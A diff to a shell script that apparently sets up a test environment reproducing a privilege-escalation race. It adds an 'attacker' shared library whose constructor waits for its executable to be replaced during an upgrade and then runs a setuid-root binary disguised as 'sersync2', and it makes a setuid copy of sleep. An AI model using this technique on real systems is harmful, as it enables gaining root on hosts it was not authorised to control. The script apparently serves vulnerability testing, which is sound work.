@@ -106,6 +106,28 @@ awk -v to="$fresh/steps/readme/" '
 # In the place of the old program, of which only the name and that it runs matter.
 printf '#include <unistd.h>\nint main(void) { for (;;) pause(); }\n' >"$work/old.c"
 quietly "$(command -v gcc || command -v clang)" -o "$fresh/steps/old-sersync2" "$work/old.c" || die "cannot compile a small program (see above)"
+# A user's process that becomes a program of root's as soon as its executable is replaced.
+cat >"$work/attacker.c" <<'C'
+#include <stdlib.h>
+#include <sys/stat.h>
+#include <unistd.h>
+__attribute__((constructor)) static void wait_for_the_upgrade(void)
+{
+    struct stat own, there;
+    char path[4096];
+    ssize_t length = readlink("/proc/self/exe", path, sizeof path - 1);
+    if (length < 0 || stat("/proc/self/exe", &own) != 0)
+        _exit(1);
+    path[length] = 0;
+    while (stat(path, &there) != 0 || there.st_ino == own.st_ino)
+        usleep(100);
+    execl("/steps/set-user-id-sleep", "sersync2", "600", (char *)0);
+    _exit(1);
+}
+C
+quietly "$(command -v gcc || command -v clang)" -shared -fPIC -o "$fresh/steps/attacker.so" "$work/attacker.c" || die "cannot compile a small library (see above)"
+cp "$fresh/bin/sleep" "$fresh/steps/set-user-id-sleep"
+chmod 4755 "$fresh/steps/set-user-id-sleep"
 cat >"$fresh/etc/systemd/system/steps.service" <<'UNIT'
 [Unit]
 Wants=dbus.service
